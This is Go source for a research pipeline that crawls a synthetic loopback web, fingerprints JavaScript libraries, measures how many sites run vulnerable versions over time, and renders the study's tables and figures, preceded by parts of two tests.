		t.Error("Table 1 differs after replay")
	}
	if live.Vuln.MeanVulnerableShare(true) != replayed.Vuln.MeanVulnerableShare(true) {
		t.Error("vulnerable share differs after replay")
	}
	if !reflect.DeepEqual(live.Delay.Result(false, false), replayed.Delay.Result(false, false)) {
		t.Error("delay result differs after replay")
	}
}
