package core

import (
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestWriteCSVDir(t *testing.T) {
	res, err := Run(context.Background(), Config{Domains: 120, Weeks: 10, Seed: 6, SkipPoC: true})
	if err != nil {
		t.Fatal(err)
	}
	dir := filepath.Join(t.TempDir(), "csv")
	if err := res.WriteCSVDir(dir); err != nil {
		t.Fatal(err)
	}
	entries, err := os.ReadDir(dir)
	if err != nil {
		t.Fatal(err)
	}
	if len(entries) != 10 {
		t.Fatalf("csv files = %d, want 10", len(entries))
	}
	// Spot-check one file: header + one row per week.
	data, err := os.ReadFile(filepath.Join(dir, "figure2a_collection.csv"))
	if err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(data)), "\n")
	if len(lines) != 11 {
		t.Fatalf("figure2a lines = %d, want 11 (header + 10 weeks)", len(lines))
	}
	if lines[0] != "date,attempted,collected" {
		t.Errorf("header = %q", lines[0])
	}
	if !strings.HasPrefix(lines[1], "2018-03-05,") {
		t.Errorf("first row = %q", lines[1])
	}
	// The wide advisory file has 1 + 27*2 columns.
	data, err = os.ReadFile(filepath.Join(dir, "figure5_affected_series.csv"))
	if err != nil {
		t.Fatal(err)
	}
	header := strings.SplitN(string(data), "\n", 2)[0]
	if got := len(strings.Split(header, ",")); got != 1+27*2 {
		t.Errorf("affected series columns = %d, want %d", got, 1+27*2)
	}
}
