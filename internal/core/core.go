// Package core orchestrates the full study pipeline: generate (or accept)
// a web population, collect weekly snapshots — either by actually crawling
// the synthetic web over HTTP and fingerprinting the pages, or directly
// from generator ground truth at scale — run every analysis of the paper,
// and run the PoC version-validation experiment.
package core

import (
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"time"

	"clientres/internal/alexa"
	"clientres/internal/analysis"
	"clientres/internal/crawler"
	"clientres/internal/fingerprint"
	"clientres/internal/poclab"
	"clientres/internal/report"
	"clientres/internal/store"
	"clientres/internal/webgen"
	"clientres/internal/webserver"
	"clientres/internal/wexbundle"
)

// Mode selects how snapshots are collected.
type Mode int

// Collection modes.
const (
	// ModeDirect converts generator ground truth straight into
	// observations — the scale path (validated against ModeCrawl by the
	// pipeline-equivalence tests).
	ModeDirect Mode = iota
	// ModeCrawl serves the synthetic web over a local HTTP listener,
	// crawls every domain every week, and fingerprints the fetched pages —
	// the paper's real pipeline.
	ModeCrawl
)

// Config parameterizes a study run.
type Config struct {
	// Domains, Weeks, Seed parameterize the synthetic population.
	Domains, Weeks int
	Seed           int64
	// Bundling parameterizes the generated population's bundler adoption
	// (webgen.Bundling; the zero value generates no bundles, preserving
	// the historical population byte-for-byte).
	Bundling webgen.Bundling
	// BundleScan turns on bundle-aware fingerprinting (ModeCrawl): the
	// crawler additionally fetches each page's same-site scripts and the
	// fingerprint engine scans their bodies for content signatures,
	// recovering libraries whose <script> URLs carry no identity (bundles).
	// On pages whose URLs already tell the whole story the detection is
	// identical with the scan on or off.
	BundleScan bool
	// Mode selects crawl vs direct collection.
	Mode Mode
	// Workers bounds crawl concurrency (ModeCrawl).
	Workers int
	// FetchTimeout bounds one whole page fetch — every attempt, backoff
	// sleep, and same-site script fetch of one (domain, week) — with a
	// context deadline (ModeCrawl; 0 disables). An expired fetch records
	// the usual Status-0 observation, so a hung host costs one deadline,
	// never a stalled crawl slot.
	FetchTimeout time.Duration
	// Resilience parameterizes the crawl path's per-host politeness
	// limiter, circuit breaker, and weekly retry budget (ModeCrawl; the
	// zero value disables the layer). On a fault-free ecosystem the layer
	// changes no observation: reports are byte-identical with it on or off
	// (proven by the resilience equivalence test).
	Resilience crawler.Resilience
	// ChaosRate, when positive, makes the loopback web server inject
	// deterministic faults — stalls, mid-body resets, truncated bodies,
	// slow-loris drips — into that fraction of (domain, week) responses
	// (ModeCrawl; a fault drill for the resilience layer).
	ChaosRate float64
	// ChaosSeed selects the fault schedule.
	ChaosSeed int64
	// Shards parallelizes the analysis pipeline (default 1 = serial).
	// Observations are partitioned across shards by domain hash; each
	// shard folds its partition into a private collector set, merged
	// after collection. A sharded run produces byte-identical report
	// output to a serial run of the same configuration (proven by the
	// shard equivalence tests).
	Shards int
	// StorePath, when set, persists every observation to a gzip JSONL
	// file — or, with StoreSegments > 1, to a segmented store directory.
	StorePath string
	// StoreSegments selects the segmented store layout: StorePath becomes
	// a directory of StoreSegments per-partition gzip JSONL files plus a
	// manifest (partitioned by the same FNV-1a domain hash as Shards), so
	// both writing and replaying parallelize. 0 or 1 keeps the single-file
	// format. Both layouts replay to byte-identical reports.
	StoreSegments int
	// Checkpoint enables week-granular crash safety for the store: after
	// every completed week each segment is flushed, its gzip member
	// finished, and fsynced, and a checkpoint journal is committed
	// atomically, so a crash loses at most the week in flight. Requires
	// StorePath and forces the segmented layout (StoreSegments 0/1 becomes
	// one segment). Checkpointing changes no observation: a checkpointed
	// run's report is byte-identical to an unjournaled one (proven by the
	// resume equivalence tests).
	Checkpoint bool
	// Resume restarts a crashed checkpointed run from its journal instead
	// of starting over (implies Checkpoint): the store's committed weeks
	// are verified against the checkpoint and replayed into the collectors,
	// any torn tail past the last commit is amputated, and collection
	// continues at the first incomplete week. The resumed run's report is
	// byte-identical to an uninterrupted run of the same configuration.
	Resume bool
	// RecordBundle, when set (ModeCrawl), archives every fetch — landing
	// page and same-site scripts, raw bytes, headers, status, timing —
	// into a web-execution bundle at this directory, sharing the store's
	// segment count, checkpoint cadence, and resume machinery: a killed
	// recording resumes without re-fetching committed weeks. Recording
	// changes no observation — a recorded run's report is byte-identical
	// to an unrecorded one.
	RecordBundle string
	// ReplayBundle, when set (ModeCrawl), replays the crawl from a
	// recorded bundle with zero network: no listener, no web server — the
	// crawler's transport is the mounted bundle, and a fetch the bundle
	// does not hold is an error, never a live request. A replayed run's
	// report is byte-identical to the live run that recorded it.
	ReplayBundle string
	// FingerprintCacheSize bounds the per-shard fingerprint memo cache
	// used on the crawl path (entries; 0 = default, negative = disable).
	// Unchanged page bodies — the common case week over week, per the
	// paper's 531-day mean update delay — skip re-tokenizing and hit the
	// cache instead; results are identical either way.
	FingerprintCacheSize int
	// Progress, when set, receives one line per collected week.
	Progress func(format string, args ...any)
	// SkipPoC skips the version-validation experiment.
	SkipPoC bool

	// startWeek and resumeFrom carry the resume state from Run into the
	// collect paths: collection restarts at startWeek after the committed
	// prefix recorded in resumeFrom has been replayed and verified.
	startWeek  int
	resumeFrom store.Checkpoint
	resuming   bool
}

// runID is the identity stamped into the checkpoint journal; a resume
// refuses a journal written under a different study configuration.
func (cfg Config) runID() store.RunID {
	return store.RunID{Seed: cfg.Seed, Domains: cfg.Domains, Weeks: cfg.Weeks, Mode: int(cfg.Mode)}
}

// Results bundles every collector plus the PoC findings after a run.
type Results struct {
	Eco       *webgen.Ecosystem
	Weeks     int
	Coll      *analysis.Collection
	Libs      *analysis.LibraryStats
	Vuln      *analysis.VulnPrevalence
	Delay     *analysis.UpdateDelay
	SRI       *analysis.SRI
	Flash     *analysis.Flash
	WordPress *analysis.WordPress
	Disc      *analysis.Discontinued
	// Regress measures update roll-backs (the Section 9 future-work
	// extension).
	Regress  *analysis.Regressions
	Findings []poclab.Finding
	// Crawl carries the crawler's resilience counters — attempts, retries,
	// connection failures, breaker trips/sheds, bytes, fetch latency
	// quantiles — after a ModeCrawl run; nil on the direct and replay
	// paths. It is diagnostic output, not report input: WriteReport never
	// reads it, which is what keeps crawl reports byte-comparable across
	// resilience configurations.
	Crawl *crawler.MetricsSnapshot
}

// newResults builds an empty collector set for a study shape.
func newResults(weeks, domains int) *Results {
	return &Results{
		Weeks:     weeks,
		Coll:      analysis.NewCollection(weeks),
		Libs:      analysis.NewLibraryStats(weeks),
		Vuln:      analysis.NewVulnPrevalence(weeks),
		Delay:     analysis.NewUpdateDelay(weeks),
		SRI:       analysis.NewSRI(weeks),
		Flash:     analysis.NewFlash(weeks, domains),
		WordPress: analysis.NewWordPress(weeks),
		Disc:      analysis.NewDiscontinued(weeks),
		Regress:   analysis.NewRegressions(weeks),
	}
}

// runner returns a Runner fanning observations to every collector of r.
func (r *Results) runner() *analysis.Runner {
	return analysis.NewRunner(r.Coll, r.Libs, r.Vuln, r.Delay,
		r.SRI, r.Flash, r.WordPress, r.Disc, r.Regress)
}

// Merge folds another result set's collector aggregates into r. The two
// sets must come from domain-disjoint shards of the same study shape (see
// analysis.Collector); Eco, Weeks, and Findings are left untouched.
func (r *Results) Merge(o *Results) {
	r.Coll.Merge(o.Coll)
	r.Libs.Merge(o.Libs)
	r.Vuln.Merge(o.Vuln)
	r.Delay.Merge(o.Delay)
	r.SRI.Merge(o.SRI)
	r.Flash.Merge(o.Flash)
	r.WordPress.Merge(o.WordPress)
	r.Disc.Merge(o.Disc)
	r.Regress.Merge(o.Regress)
}

// shardOf assigns a domain to one of n shards. It is store.ShardOf — the
// one FNV-1a partition function shared with the segmented store layout,
// so segment partition and collector-shard partition always agree.
func shardOf(domain string, n int) int { return store.ShardOf(domain, n) }

// memo builds the crawl path's per-shard fingerprint cache (nil when
// disabled; a nil Memo degrades to plain fingerprint.Page calls).
func (cfg Config) memo() *fingerprint.Memo {
	if cfg.FingerprintCacheSize < 0 {
		return nil
	}
	return fingerprint.NewMemo(cfg.FingerprintCacheSize)
}

// lockedWrite adapts a sink for concurrent shard writers. The segmented
// writer locks per segment internally — domain-disjoint shards write
// different segments, so they proceed in parallel — while the single-file
// writer needs one global mutex.
func lockedWrite(w store.Sink) func(store.Observation) error {
	if w == nil {
		return nil
	}
	if _, ok := w.(*store.SegmentedWriter); ok {
		return w.Write
	}
	var mu sync.Mutex
	return func(obs store.Observation) error {
		mu.Lock()
		defer mu.Unlock()
		return w.Write(obs)
	}
}

// Run executes the pipeline.
func Run(ctx context.Context, cfg Config) (*Results, error) {
	if cfg.Domains == 0 {
		cfg.Domains = 2000
	}
	if cfg.Weeks == 0 {
		cfg.Weeks = webgen.StudyWeeks
	}
	if cfg.Shards < 1 {
		cfg.Shards = 1
	}
	if cfg.Progress == nil {
		cfg.Progress = func(string, ...any) {}
	}
	eco := webgen.New(webgen.Config{Domains: cfg.Domains, Weeks: cfg.Weeks, Seed: cfg.Seed, Bundling: cfg.Bundling})
	res := newResults(cfg.Weeks, cfg.Domains)
	res.Eco = eco

	if cfg.Resume {
		cfg.Checkpoint = true
	}
	if cfg.Checkpoint && cfg.StorePath == "" {
		return nil, fmt.Errorf("core: Checkpoint requires StorePath")
	}
	if (cfg.RecordBundle != "" || cfg.ReplayBundle != "") && cfg.Mode != ModeCrawl {
		return nil, fmt.Errorf("core: bundle record/replay requires ModeCrawl")
	}
	if cfg.RecordBundle != "" && cfg.ReplayBundle != "" {
		return nil, fmt.Errorf("core: RecordBundle and ReplayBundle are mutually exclusive")
	}

	var writer store.Sink
	if cfg.StorePath != "" {
		var w store.Sink
		var err error
		switch {
		case cfg.Resume:
			sw, ck, rerr := store.ResumeSegmented(cfg.StorePath, store.SegmentedOptions{Run: cfg.runID()})
			if rerr != nil {
				return nil, rerr
			}
			cfg.resumeFrom, cfg.resuming = ck, true
			cfg.startWeek = ck.CommittedWeeks
			w = sw
		case cfg.Checkpoint:
			segments := cfg.StoreSegments
			if segments < 1 {
				segments = 1
			}
			w, err = store.CreateSegmentedWith(cfg.StorePath, segments,
				store.SegmentedOptions{Checkpoint: true, Run: cfg.runID()})
		case cfg.StoreSegments > 1:
			w, err = store.CreateSegmented(cfg.StorePath, cfg.StoreSegments)
		default:
			w, err = store.Create(cfg.StorePath)
		}
		if err != nil {
			return nil, err
		}
		writer = w
	}

	var err error
	switch cfg.Mode {
	case ModeCrawl:
		err = collectByCrawl(ctx, cfg, eco, res, writer)
	default:
		err = collectDirect(ctx, cfg, eco, res, writer)
	}
	if writer != nil {
		if err != nil {
			// A failed run must never write a manifest — the directory keeps
			// reading as incomplete, and the last checkpoint (if any) stays
			// authoritative for salvage and resume. Abort is the deliberate
			// crash: close without flushing, losing only uncommitted state.
			if ab, ok := writer.(interface{ Abort() error }); ok {
				_ = ab.Abort()
			} else {
				_ = writer.Close()
			}
		} else if cerr := writer.Close(); cerr != nil {
			// A failed close loses the gzip footer — and with it data the
			// readers can never recover; never swallow it.
			err = cerr
		}
	}
	if err != nil {
		return nil, err
	}

	if !cfg.SkipPoC {
		res.Findings, err = poclab.RunAll()
		if err != nil {
			return nil, err
		}
	}
	return res, nil
}

// commitWeek makes week (0-based) durable on a checkpointed writer — the
// per-week commit point of a crash-safe run. The caller must have quiesced
// all writes for the week (every collect loop has a natural per-week
// barrier). No-op without Checkpoint.
func commitWeek(cfg Config, writer store.Sink, week int) error {
	if !cfg.Checkpoint || writer == nil {
		return nil
	}
	cw, ok := writer.(interface{ CommitWeek(int) error })
	if !ok {
		return fmt.Errorf("core: Checkpoint set but the store writer cannot commit weeks")
	}
	if err := cw.CommitWeek(week); err != nil {
		return err
	}
	cfg.Progress("week %3d/%d committed", week+1, cfg.Weeks)
	return nil
}

// commitBundleWeek makes a recorded week's bundle records durable. It runs
// before the observation store's commitWeek: the bundle must always be
// able to replay the store's committed prefix, so across a crash the
// bundle may be ahead of the store (harmless — the resumed run re-records
// the week and the duplicates supersede in the replay index) but never
// behind it. No-op without Checkpoint, matching the store's cadence.
func commitBundleWeek(cfg Config, bw *wexbundle.Writer, week int) error {
	if bw == nil || !cfg.Checkpoint {
		return nil
	}
	return bw.CommitWeek(week)
}

// replayCommitted rebuilds collector state from the committed prefix of a
// resumed store, routing each observation to its shard's runner exactly as
// live collection would, and verifies the journal: each segment must replay
// exactly the record count the checkpoint committed. Collection then
// continues at the first incomplete week as if the crash never happened.
func replayCommitted(cfg Config, runners []*analysis.Runner) error {
	ck := cfg.resumeFrom
	for s := 0; s < ck.Segments; s++ {
		n := 0
		if err := store.ForEachSegment(cfg.StorePath, s, func(obs store.Observation) error {
			if obs.Week >= ck.CommittedWeeks {
				return fmt.Errorf("core: resume: segment %d holds week %d past the %d committed",
					s, obs.Week, ck.CommittedWeeks)
			}
			runners[shardOf(obs.Domain, len(runners))].Observe(obs)
			n++
			return nil
		}); err != nil {
			return err
		}
		if n != ck.Counts[s] {
			return fmt.Errorf("core: resume: segment %d replays %d records, checkpoint committed %d",
				s, n, ck.Counts[s])
		}
	}
	cfg.Progress("resumed: %d/%d weeks committed, %d records verified and replayed",
		ck.CommittedWeeks, cfg.Weeks, ck.Total)
	return nil
}

// collectDirect streams ground-truth observations, weeks ascending. With
// Shards > 1 the sites are partitioned by domain hash and each shard folds
// its partition into a private collector set on its own goroutine, with a
// barrier per week; the shards merge into res afterwards.
func collectDirect(ctx context.Context, cfg Config, eco *webgen.Ecosystem, res *Results, writer store.Sink) error {
	if cfg.Shards == 1 {
		runner := res.runner()
		if cfg.resuming {
			if err := replayCommitted(cfg, []*analysis.Runner{runner}); err != nil {
				return err
			}
		}
		for w := cfg.startWeek; w < cfg.Weeks; w++ {
			if err := ctx.Err(); err != nil {
				return err
			}
			for i := range eco.Sites {
				obs := analysis.ObservationFromTruth(eco.Sites[i].Domain, eco.Truth(i, w))
				runner.Observe(obs)
				if writer != nil {
					if err := writer.Write(obs); err != nil {
						return err
					}
				}
			}
			cfg.Progress("week %3d/%d collected (direct)", w+1, cfg.Weeks)
			if err := commitWeek(cfg, writer, w); err != nil {
				return err
			}
		}
		return nil
	}

	parts := make([][]int, cfg.Shards)
	for i := range eco.Sites {
		s := shardOf(eco.Sites[i].Domain.Name, cfg.Shards)
		parts[s] = append(parts[s], i)
	}
	shardRes := make([]*Results, cfg.Shards)
	runners := make([]*analysis.Runner, cfg.Shards)
	for s := range shardRes {
		shardRes[s] = newResults(cfg.Weeks, cfg.Domains)
		runners[s] = shardRes[s].runner()
	}
	if cfg.resuming {
		if err := replayCommitted(cfg, runners); err != nil {
			return err
		}
	}
	write := lockedWrite(writer)
	errs := make([]error, cfg.Shards)
	for w := cfg.startWeek; w < cfg.Weeks; w++ {
		if err := ctx.Err(); err != nil {
			return err
		}
		var wg sync.WaitGroup
		for s := 0; s < cfg.Shards; s++ {
			wg.Add(1)
			go func(s int) {
				defer wg.Done()
				for _, i := range parts[s] {
					obs := analysis.ObservationFromTruth(eco.Sites[i].Domain, eco.Truth(i, w))
					runners[s].Observe(obs)
					if write != nil {
						if err := write(obs); err != nil {
							errs[s] = err
							return
						}
					}
				}
			}(s)
		}
		wg.Wait()
		for _, e := range errs {
			if e != nil {
				return e
			}
		}
		cfg.Progress("week %3d/%d collected (direct, %d shards)", w+1, cfg.Weeks, cfg.Shards)
		// The wg barrier above quiesced every shard's writes for the week.
		if err := commitWeek(cfg, writer, w); err != nil {
			return err
		}
	}
	for _, sr := range shardRes {
		res.Merge(sr)
	}
	return nil
}

// crawlObservation reduces one crawled page to an Observation, running the
// fingerprint engine on usable bodies. memo, when non-nil, short-circuits
// unchanged page bodies to their cached Detection; it must be private to
// the calling goroutine (one memo per shard).
func crawlObservation(byName map[string]alexa.Domain, memo *fingerprint.Memo, p crawler.Page) store.Observation {
	dom := byName[p.Domain]
	var det fingerprint.Detection
	status := p.Status
	if p.Err != nil {
		status = 0
	} else if status == 200 {
		if len(p.Scripts) > 0 {
			scripts := make([]fingerprint.ScriptBody, len(p.Scripts))
			for i, s := range p.Scripts {
				scripts[i] = fingerprint.ScriptBody{URL: s.URL, Body: s.Body}
			}
			det = memo.PageWithScripts(p.Body, p.Domain, scripts)
		} else {
			det = memo.Page(p.Body, p.Domain)
		}
	}
	return analysis.ObservationFromCrawl(dom, p.Week, status, p.Body, det)
}

// collectByCrawl serves the ecosystem on a loopback listener, crawls every
// week, and fingerprints the fetched pages. With Shards > 1 the pages fan
// out by domain hash to per-shard analysis workers, so fingerprinting and
// collection run in parallel with the crawl; the per-shard collector sets
// merge into res afterwards.
//
// With ReplayBundle no listener or web server exists at all: the crawler's
// transport is the mounted bundle, and the base URL's host resolves
// nowhere — nothing in a replayed run can touch the network. With
// RecordBundle the crawler's transport is wrapped to archive every
// exchange; the bundle commits each week before the observation store
// does, so after a crash between the two commits the bundle is never
// behind the store (wexbundle.Writer.CommitWeek tolerates the re-commit).
func collectByCrawl(ctx context.Context, cfg Config, eco *webgen.Ecosystem, res *Results, writer store.Sink) (retErr error) {
	var wrap func(http.RoundTripper) http.RoundTripper
	var baseURL string
	if cfg.ReplayBundle != "" {
		b, err := wexbundle.Mount(cfg.ReplayBundle)
		if err != nil {
			return err
		}
		wrap = func(http.RoundTripper) http.RoundTripper { return b.Transport() }
		baseURL = "http://wexbundle.invalid"
	} else {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return err
		}
		ws := webserver.New(eco)
		if cfg.ChaosRate > 0 {
			ws.Chaos = &webserver.Chaos{Seed: cfg.ChaosSeed, Rate: cfg.ChaosRate}
		}
		srv := &http.Server{Handler: ws}
		done := make(chan struct{})
		go func() {
			defer close(done)
			_ = srv.Serve(ln)
		}()
		defer func() {
			shutdownCtx, cancel := context.WithTimeout(context.Background(), 2*time.Second)
			defer cancel()
			_ = srv.Shutdown(shutdownCtx)
			<-done
		}()
		baseURL = "http://" + ln.Addr().String()
	}

	var bw *wexbundle.Writer
	if cfg.RecordBundle != "" {
		segments := cfg.StoreSegments
		if segments < 1 {
			segments = 1
		}
		opt := wexbundle.Options{
			Segments:   segments,
			Checkpoint: cfg.Checkpoint,
			Run:        cfg.runID(),
			Meta:       wexbundle.Meta{Domains: cfg.Domains, Weeks: cfg.Weeks, Seed: cfg.Seed, BundleScan: cfg.BundleScan},
		}
		if cfg.resuming {
			w, ck, err := wexbundle.Resume(cfg.RecordBundle, opt)
			if err != nil {
				return err
			}
			if ck.CommittedWeeks < cfg.startWeek {
				_ = w.Abort()
				return fmt.Errorf("core: bundle %s committed %d weeks, store committed %d — the bundle cannot replay the store's committed prefix",
					cfg.RecordBundle, ck.CommittedWeeks, cfg.startWeek)
			}
			bw = w
		} else {
			w, err := wexbundle.Create(cfg.RecordBundle, opt)
			if err != nil {
				return err
			}
			bw = w
		}
		defer func() {
			if retErr != nil {
				// Same discipline as the observation store: a failed run
				// never writes a manifest; the last bundle checkpoint stays
				// authoritative for resume and salvage.
				_ = bw.Abort()
			} else if cerr := bw.Close(); cerr != nil {
				retErr = cerr
			}
		}()
		wrap = func(inner http.RoundTripper) http.RoundTripper {
			return &wexbundle.RecordingTransport{Inner: inner, W: bw}
		}
	}

	workers := cfg.Workers
	if workers == 0 {
		workers = 64
	}
	cr := crawler.New(crawler.Config{
		BaseURL:       baseURL,
		Workers:       workers,
		FetchTimeout:  cfg.FetchTimeout,
		Backoff:       crawler.Backoff{Seed: cfg.Seed},
		Resilience:    cfg.Resilience,
		FetchScripts:  cfg.BundleScan,
		WrapTransport: wrap,
	})
	defer func() {
		snap := cr.Metrics()
		res.Crawl = &snap
	}()
	byName := eco.List.ByName()
	domains := make([]string, len(eco.Sites))
	for i, s := range eco.Sites {
		domains[i] = s.Domain.Name
	}

	if cfg.Shards == 1 {
		runner := res.runner()
		memo := cfg.memo()
		if cfg.resuming {
			if err := replayCommitted(cfg, []*analysis.Runner{runner}); err != nil {
				return err
			}
		}
		for w := cfg.startWeek; w < cfg.Weeks; w++ {
			// CrawlWeek invokes the callback from a single goroutine (its
			// documented contract, asserted by the crawler's contract
			// tests), so the plain obsErr capture and the memo use are
			// race-free by construction.
			var obsErr error
			err := cr.CrawlWeek(ctx, w, domains, func(p crawler.Page) {
				obs := crawlObservation(byName, memo, p)
				runner.Observe(obs)
				if writer != nil && obsErr == nil {
					obsErr = writer.Write(obs)
				}
			})
			if err != nil {
				return err
			}
			if obsErr != nil {
				return obsErr
			}
			cfg.Progress("week %3d/%d crawled", w+1, cfg.Weeks)
			if err := commitBundleWeek(cfg, bw, w); err != nil {
				return err
			}
			if err := commitWeek(cfg, writer, w); err != nil {
				return err
			}
		}
		return nil
	}

	shardRes := make([]*Results, cfg.Shards)
	runners := make([]*analysis.Runner, cfg.Shards)
	for s := range shardRes {
		shardRes[s] = newResults(cfg.Weeks, cfg.Domains)
		runners[s] = shardRes[s].runner()
	}
	if cfg.resuming {
		// Replay happens-before the shard workers start, so the runners need
		// no locking here.
		if err := replayCommitted(cfg, runners); err != nil {
			return err
		}
	}
	chans := make([]chan crawler.Page, cfg.Shards)
	errs := make([]error, cfg.Shards)
	write := lockedWrite(writer)
	// pending, on checkpointed runs, is the per-week drain barrier: the
	// shard workers consume pages asynchronously, so CrawlWeek returning
	// does not mean the week's observations reached the store. Every page
	// handed to a channel is Add-ed, every processed page Done-d; waiting
	// on it after CrawlWeek quiesces all writes before CommitWeek.
	var pending *sync.WaitGroup
	if cfg.Checkpoint {
		pending = new(sync.WaitGroup)
	}
	var wg sync.WaitGroup
	for s := 0; s < cfg.Shards; s++ {
		chans[s] = make(chan crawler.Page, 128)
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			runner := runners[s]
			memo := cfg.memo()
			for p := range chans[s] {
				if errs[s] == nil {
					obs := crawlObservation(byName, memo, p)
					runner.Observe(obs)
					if write != nil {
						if err := write(obs); err != nil {
							errs[s] = err
						}
					}
				} // else: drain after a failure so the feeder never blocks
				if pending != nil {
					pending.Done()
				}
			}
		}(s)
	}
	crawlErr := func() error {
		for w := cfg.startWeek; w < cfg.Weeks; w++ {
			// CrawlWeek returns only after every page of the week has been
			// handed to the callback, so each domain's pages enter its
			// shard channel in week-ascending order.
			err := cr.CrawlWeek(ctx, w, domains, func(p crawler.Page) {
				if pending != nil {
					pending.Add(1)
				}
				chans[shardOf(p.Domain, cfg.Shards)] <- p
			})
			if err != nil {
				return err
			}
			cfg.Progress("week %3d/%d crawled (%d shards)", w+1, cfg.Weeks, cfg.Shards)
			if pending != nil {
				pending.Wait()
				// The barrier synchronizes the workers' errs writes too.
				for _, e := range errs {
					if e != nil {
						return e
					}
				}
				if err := commitBundleWeek(cfg, bw, w); err != nil {
					return err
				}
				if err := commitWeek(cfg, writer, w); err != nil {
					return err
				}
			}
		}
		return nil
	}()
	for _, c := range chans {
		close(c)
	}
	wg.Wait()
	if crawlErr != nil {
		return crawlErr
	}
	for _, e := range errs {
		if e != nil {
			return e
		}
	}
	for _, sr := range shardRes {
		res.Merge(sr)
	}
	return nil
}

// RunFromStore replays a stored observation dataset through the analyses
// (Findings still come from the PoC lab, which is dataset-independent).
// The path may be a single gzip JSONL file or a segmented store directory
// (see store.CreateSegmented); both formats are read transparently and
// replay to byte-identical reports. With shards > 1 the observations fan
// out by domain hash to per-shard collector sets, merged afterwards — the
// stored per-domain week ordering is preserved inside each shard, so the
// result is identical to a serial replay. When the store's segment count
// equals the shard count the replay takes the aligned fast path: one
// decoder goroutine per segment feeds its shard's collectors directly,
// with no cross-goroutine handoff and pooled decode buffers.
func RunFromStore(path string, weeks, domains, shards int) (*Results, error) {
	if shards < 1 {
		shards = 1
	}
	res := newResults(weeks, domains)
	var err error
	if store.IsSegmented(path) {
		err = replaySegmented(path, weeks, domains, shards, res)
	} else {
		err = replayFile(path, weeks, domains, shards, res)
	}
	if err != nil {
		return nil, err
	}
	res.Findings, err = poclab.RunAll()
	return res, err
}

// replayFile replays a single-file store, fanning out to shard channels
// from the one decoder goroutine the sequential gzip stream allows.
func replayFile(path string, weeks, domains, shards int, res *Results) error {
	if shards == 1 {
		runner := res.runner()
		return store.ForEach(path, func(obs store.Observation) error {
			runner.Observe(obs)
			return nil
		})
	}
	shardRes := make([]*Results, shards)
	chans := make([]chan store.Observation, shards)
	var wg sync.WaitGroup
	for s := 0; s < shards; s++ {
		shardRes[s] = newResults(weeks, domains)
		chans[s] = make(chan store.Observation, 256)
		wg.Add(1)
		go func(s int) {
			defer wg.Done()
			runner := shardRes[s].runner()
			for obs := range chans[s] {
				runner.Observe(obs)
			}
		}(s)
	}
	err := store.ForEach(path, func(obs store.Observation) error {
		// The channel send retains obs past the callback, but every
		// ForEach path reuses its decode buffers — hand over a clone.
		chans[shardOf(obs.Domain, shards)] <- obs.Clone()
		return nil
	})
	for _, c := range chans {
		close(c)
	}
	wg.Wait()
	if err != nil {
		return err
	}
	for _, sr := range shardRes {
		res.Merge(sr)
	}
	return nil
}

// replaySegmented replays a segmented store. Three shapes:
//
//   - shards == 1: segments decoded sequentially into one collector set
//     (per-domain week order holds inside each segment, which is all the
//     collectors need — whole-stream order is irrelevant to the report).
//   - shards == segment count: the aligned fast path. Segment partition
//     and shard partition are the same FNV-1a domain hash, so segment s
//     holds exactly shard s's domains; each segment's decoder goroutine
//     feeds its shard's collectors directly. No channels, and the decoder
//     may reuse its Libs buffers because collectors never retain them.
//   - otherwise: segments still decode concurrently, re-routing each
//     observation to its shard channel by domain hash (a channel send
//     retains the observation, so this path clones out of the decoder's
//     reused buffers).
func replaySegmented(dir string, weeks, domains, shards int, res *Results) error {
	man, err := store.ReadManifest(dir)
	if err != nil {
		return err
	}
	if shards == 1 {
		runner := res.runner()
		return store.ForEachSegmented(dir, func(obs store.Observation) error {
			runner.Observe(obs)
			return nil
		})
	}
	shardRes := make([]*Results, shards)
	for s := range shardRes {
		shardRes[s] = newResults(weeks, domains)
	}
	if man.Segments == shards {
		runners := make([]*analysis.Runner, shards)
		for s := range runners {
			runners[s] = shardRes[s].runner()
		}
		if err := store.ForEachSegmentedParallel(dir, func(seg int, obs store.Observation) error {
			runners[seg].Observe(obs)
			return nil
		}); err != nil {
			return err
		}
	} else {
		chans := make([]chan store.Observation, shards)
		var collectWG sync.WaitGroup
		for s := 0; s < shards; s++ {
			chans[s] = make(chan store.Observation, 256)
			collectWG.Add(1)
			go func(s int) {
				defer collectWG.Done()
				runner := shardRes[s].runner()
				for obs := range chans[s] {
					runner.Observe(obs)
				}
			}(s)
		}
		errs := make([]error, man.Segments)
		var readWG sync.WaitGroup
		for seg := 0; seg < man.Segments; seg++ {
			readWG.Add(1)
			go func(seg int) {
				defer readWG.Done()
				errs[seg] = store.ForEachSegment(dir, seg, func(obs store.Observation) error {
					// Channel sends retain obs past the callback; the
					// pooled decoder reuses its buffers, so clone.
					chans[shardOf(obs.Domain, shards)] <- obs.Clone()
					return nil
				})
			}(seg)
		}
		readWG.Wait()
		for _, c := range chans {
			close(c)
		}
		collectWG.Wait()
		for _, e := range errs {
			if e != nil {
				return e
			}
		}
	}
	for _, sr := range shardRes {
		res.Merge(sr)
	}
	return nil
}

// WriteReport renders every table and figure of the paper plus the headline
// comparison.
func (r *Results) WriteReport(w io.Writer) {
	fmt.Fprintf(w, "clientres study report — %d weeks\n", r.Weeks)
	report.Table1(w, r.Libs.Table1())
	report.Table2(w, r.Findings, r.Vuln)
	report.Table3(w)
	report.Table4(w, r.WordPress.Table4())
	report.Table5(w, r.Libs)
	report.Table6(w, r.SRI)
	report.Figure2a(w, r.Coll)
	report.Figure2b(w, r.Coll)
	report.Figure3(w, r.Libs, r.Weeks)
	report.Figure4(w, r.Findings, "jquery", "Figure 4: jQuery disclosed vs true vulnerable versions")
	report.Figure5(w, r.Vuln, r.Weeks,
		[]string{"CVE-2020-7656", "CVE-2014-6071", "CVE-2020-11022"},
		"Figure 5: affected sites over time, jQuery advisories (CVE vs TVV)")
	report.Figure6(w, r.Libs, r.Weeks)
	report.Figure7(w, r.Libs, r.Weeks)
	report.Figure8(w, r.Flash, r.Weeks)
	report.Figure9(w, r.WordPress, r.Weeks)
	report.Figure10(w, r.SRI, r.Weeks)
	report.Figure11(w, r.Flash, r.Weeks)
	report.Figure12(w, r.Vuln)
	report.Figure13(w, r.Findings)
